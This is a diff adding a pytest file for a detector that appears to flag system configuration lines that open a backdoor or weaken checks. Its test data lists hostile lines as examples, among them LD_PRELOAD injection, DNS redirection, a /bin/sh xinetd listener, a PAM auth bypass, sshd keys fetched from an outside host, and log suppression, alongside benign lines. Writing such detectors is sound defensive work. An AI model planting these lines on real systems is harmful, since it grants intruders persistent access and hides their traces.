@@ -1,0 +1,62 @@
+"""Lines of a system's files: told where they let somebody in or check less, and only there.
+
+Spec: evenhand.rootfs.line.
+"""
+
+from __future__ import annotations
+
+import pytest
+
+from evenhand.rootfs.line import of_line
+
+TOLD = (
+    ("etc/environment", "LD_PRELOAD=/usr/lib/libq.so", "runs on an event"),
+    ("etc/ld.so.conf.d/0.conf", "/tmp/.lib", "runs on an event"),
+    ("etc/resolv.conf", "nameserver 198.51.100.5", "redirects a host"),
+    ("etc/dnsmasq.conf", "address=/bank.example/198.51.100.9", "redirects a host"),
+    ("etc/yum.repos.d/v.repo", "gpgcheck=0", "takes unsigned updates"),
+    ("etc/pip.conf", "index-url = http://p.example/simple", "takes unsigned updates"),
+    ("root/.npmrc", "strict-ssl=false", "takes unsigned updates"),
+    ("root/.curlrc", "insecure", "turns a check off"),
+    ("etc/nftables.conf", "ip saddr 198.51.100.7 accept", "opens the firewall"),
+    ("etc/iptables/rules.v4", "-A PREROUTING -j DNAT --to 198.51.100.3:53", "redirects a host"),
+    ("etc/rsyslog.d/0.conf", ':msg, contains, "198.51.100.7" stop', "removes traces"),
+    ("etc/rsyslog.conf", "*.* @@198.51.100.7:514", "collects and sends"),
+    ("etc/exports", "/srv *(rw,no_root_squash)", "grants rights"),
+    ("etc/hosts.equiv", "+", "lets in"),
+    ("etc/xinetd.d/m", "server = /bin/sh", "listens"),
+    ("etc/snmp/snmpd.conf", "rwcommunity private", "lets in"),
+    ("etc/sudoers", 'Defaults env_keep += "LD_PRELOAD"', "grants rights"),
+    ("etc/pam.d/sshd", "auth [success=done default=ignore] pam_succeed_if.so user = s",
+     "turns a check off"),
+    ("etc/pam.d/login", "auth sufficient pam_q.so", "hooks log-in"),
+    ("etc/ssh/sshd_config", "AuthorizedKeysCommand /usr/bin/curl -s https://k.example/%u",
+     "lets in"),
+    ("etc/apt/apt.conf.d/9", 'Acquire::http::Proxy "http://198.51.100.9:3128";',
+     "redirects a host"),
+)  # fmt: skip
+USUAL = (
+    ("etc/environment", "PATH=/usr/bin:/bin"),
+    ("x.service.d/a.conf", "Environment=LD_PRELOAD=/usr/lib/libjemalloc.so.2"),
+    ("etc/ld.so.conf.d/0.conf", "/usr/local/lib/x86_64-linux-gnu"),
+    ("etc/resolv.conf", "nameserver 192.168.1.1"),
+    ("etc/dnsmasq.conf", "address=/ads.example/0.0.0.0"),
+    ("etc/yum.repos.d/v.repo", "gpgcheck=1"),
+    ("etc/nftables.conf", "ip saddr 10.0.0.0/8 accept"),
+    ("etc/nftables.conf", "tcp dport 22 accept"),
+    ("etc/rsyslog.conf", "*.info;mail.none /var/log/messages"),
+    ("etc/pam.d/login", "auth sufficient pam_unix.so nullok"),
+    ("etc/ssh/sshd_config", "Port 22"),
+)
+
+
+@pytest.mark.parametrize(("path", "line", "kind"), TOLD)
+def test_what_a_line_opens_is_told(path: str, line: str, kind: str) -> None:
+    found = of_line(path, line)
+    assert found is not None and found.kind == kind and (found.strength or 0) >= 0.35
+
+
+@pytest.mark.parametrize(("path", "line"), USUAL)
+def test_what_every_system_says_has_no_weight(path: str, line: str) -> None:
+    found = of_line(path, line)
+    assert found is None or found.strength is None
